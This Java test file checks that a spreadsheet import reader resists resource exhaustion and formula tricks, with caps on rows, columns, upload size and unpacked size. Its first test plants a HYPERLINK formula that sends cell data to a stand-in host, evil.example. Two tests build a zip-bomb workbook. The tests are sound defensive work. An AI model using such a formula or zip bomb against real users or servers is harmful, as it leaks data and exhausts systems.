package se.stockholm.vfu.request.importing;

import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import se.stockholm.vfu.common.InvalidInputException;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Random;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * An uploaded file cannot exhaust the server (issue 8, hole 6): the Excel sheet is streamed, formulas are never
 * evaluated (a formula cell gives the value Excel saved with it, or nothing), and rows, columns, the upload's size
 * and every zip entry's unpacked size and packing ratio are capped, each refused with a message for the upload field.
 */
class SheetReaderLimitsTest {

    @Test
    void aFormulaIsNeverEvaluatedOnlyTheValueExcelSavedIsRead() throws IOException {
        byte[] file = xlsx(sheet -> {
            header(sheet);
            XSSFRow saved = sheet.createRow(1);
            saved.createCell(0).setCellFormula("1+1");
            saved.getCell(0).setCellValue(2);
            saved.createCell(1).setCellFormula("HYPERLINK(\"http://evil.example/?\"&B1,\"Klicka\")");
            saved.getCell(1).setCellValue("Klicka");
            XSSFRow unsaved = sheet.createRow(2);
            unsaved.createCell(0).setCellFormula("1+1");
            unsaved.createCell(1).setCellFormula("HYPERLINK(\"http://evil.example/?\"&B1,\"Klicka\")");
            unsaved.createCell(2).setCellValue("s3");
        });

        Sheet read = SheetReader.read("requests.xlsx", file);

        assertThat(read.rows().get(0).cell(0)).isEqualTo("2");
        assertThat(read.rows().get(0).cell(1)).isEqualTo("Klicka");
        // without a saved value there is nothing to read: evaluating would have given "2" and "Klicka"
        assertThat(read.rows().get(1).cell(0)).isNull();
        assertThat(read.rows().get(1).cell(1)).isNull();
        assertThat(read.rows().get(1).cell(2)).isEqualTo("s3");
    }

    @Test
    void aSheetWithTooManyRowsIsRefused() throws IOException {
        byte[] file = xlsx(sheet -> {
            header(sheet);
            for (int r = 1; r <= SheetReader.MAX_ROWS + 1; r++) {
                sheet.createRow(r).createCell(0).setCellValue("s" + r);
            }
        });

        assertRefused(file, "request.import.tooManyRows");
    }

    @Test
    void aSheetWithTooManyColumnsIsRefusedInExcelAndCsv() throws IOException {
        byte[] file = xlsx(sheet -> {
            header(sheet);
            XSSFRow row = sheet.createRow(1);
            row.createCell(0).setCellValue("s1");
            row.createCell(SheetReader.MAX_COLUMNS).setCellValue("one too far");
        });
        assertRefused(file, "request.import.tooManyColumns");

        String csv = "Student-id" + ";x".repeat(SheetReader.MAX_COLUMNS) + "\ns1\n";
        assertThatThrownBy(() -> SheetReader.read("requests.csv", csv.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOfSatisfying(InvalidInputException.class, e -> {
                    assertThat(e.getField()).isEqualTo(SheetReader.FIELD);
                    assertThat(e.getMessageKey()).isEqualTo("request.import.tooManyColumns");
                });
    }

    @Test
    void theLastColumnAllowedIsRead() throws IOException {
        byte[] file = xlsx(sheet -> {
            header(sheet);
            XSSFRow row = sheet.createRow(1);
            row.createCell(0).setCellValue("s1");
            row.createCell(SheetReader.MAX_COLUMNS - 1).setCellValue("last");
        });

        assertThat(SheetReader.read("requests.xlsx", file).rows().get(0).cell(SheetReader.MAX_COLUMNS - 1))
                .isEqualTo("last");
    }

    @Test
    void aZipBombWithAHugeSharedStringsEntryIsRefusedWithoutUnpackingIt() throws IOException {
        // 200 MB of one repeated string packs to a few hundred KB: far beyond any entry size and packing ratio
        byte[] bomb = withEntry(xlsx(sheet -> {
            header(sheet);
            sheet.createRow(1).createCell(0).setCellValue("s1");
        }), "xl/sharedStrings.xml", out -> {
            write(out, "<?xml version=\"1.0\" encoding=\"UTF-8\"?><sst xmlns=\""
                    + "http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>");
            byte[] chunk = "A".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < 200; i++) {
                out.write(chunk, 0, chunk.length);
            }
            write(out, "</t></si></sst>");
        });
        assertThat(bomb.length).isLessThan((int) SheetReader.MAX_UPLOAD_BYTES);

        long start = System.nanoTime();
        assertRefused(bomb, "request.import.tooLargeUnpacked");
        assertThat((System.nanoTime() - start) / 1_000_000).as("milliseconds to refuse").isLessThan(5_000);
    }

    @Test
    void anEntryOverTheSizeLimitIsRefusedEvenWhenItPacksModestly() throws IOException {
        Random random = new Random(8);
        byte[] file = withEntry(xlsx(sheet -> {
            header(sheet);
            sheet.createRow(1).createCell(0).setCellValue("s1");
        }), "xl/sharedStrings.xml", out -> {
            write(out, "<?xml version=\"1.0\" encoding=\"UTF-8\"?><sst xmlns=\""
                    + "http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>");
            byte[] chunk = new byte[1 << 16];
            for (long written = 0; written <= SheetReader.MAX_ENTRY_BYTES; written += chunk.length) {
                for (int i = 0; i < chunk.length; i++) {
                    chunk[i] = (byte) ('a' + random.nextInt(2));
                }
                out.write(chunk, 0, chunk.length);
            }
            write(out, "</t></si></sst>");
        });
        assertThat(file.length).isLessThan((int) SheetReader.MAX_UPLOAD_BYTES);

        assertRefused(file, "request.import.tooLargeUnpacked");
    }

    @Test
    void anUploadOverTheSizeLimitIsRefusedBeforeItIsParsed() {
        byte[] big = new byte[(int) SheetReader.MAX_UPLOAD_BYTES + 1];
        big[0] = 'P';
        big[1] = 'K';

        assertThatThrownBy(() -> SheetReader.read("requests.xlsx", big))
                .isInstanceOfSatisfying(InvalidInputException.class, e -> {
                    assertThat(e.getField()).isEqualTo(SheetReader.FIELD);
                    assertThat(e.getMessageKey()).isEqualTo("request.import.tooLarge");
                });
    }

    private static void assertRefused(byte[] file, String messageKey) {
        assertThatThrownBy(() -> SheetReader.read("requests.xlsx", file))
                .isInstanceOfSatisfying(InvalidInputException.class, e -> {
                    assertThat(e.getField()).isEqualTo(SheetReader.FIELD);
                    assertThat(e.getMessageKey()).isEqualTo(messageKey);
                });
    }

    private static void header(XSSFSheet sheet) {
        XSSFRow header = sheet.createRow(0);
        header.createCell(0).setCellValue("Student-id");
        header.createCell(1).setCellValue("Förnamn");
        header.createCell(2).setCellValue("Efternamn");
    }

    private static byte[] xlsx(Consumer<XSSFSheet> fill) throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            fill.accept(workbook.createSheet("Förfrågningar"));
            workbook.write(out);
            return out.toByteArray();
        }
    }

    /** The workbook with one entry's content replaced (or added), as a hand-made hostile file would be. */
    private static byte[] withEntry(byte[] workbook, String name, IoConsumer<ZipOutputStream> content)
            throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(workbook));
             ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                if (!entry.getName().equals(name)) {
                    out.putNextEntry(new ZipEntry(entry.getName()));
                    in.transferTo(out);
                    out.closeEntry();
                }
            }
            out.putNextEntry(new ZipEntry(name));
            content.accept(out);
            out.closeEntry();
        }
        return bytes.toByteArray();
    }

    private static void write(ZipOutputStream out, String text) throws IOException {
        out.write(text.getBytes(StandardCharsets.UTF_8));
    }

    @FunctionalInterface
    private interface IoConsumer<T> {
        void accept(T value) throws IOException;
    }
}
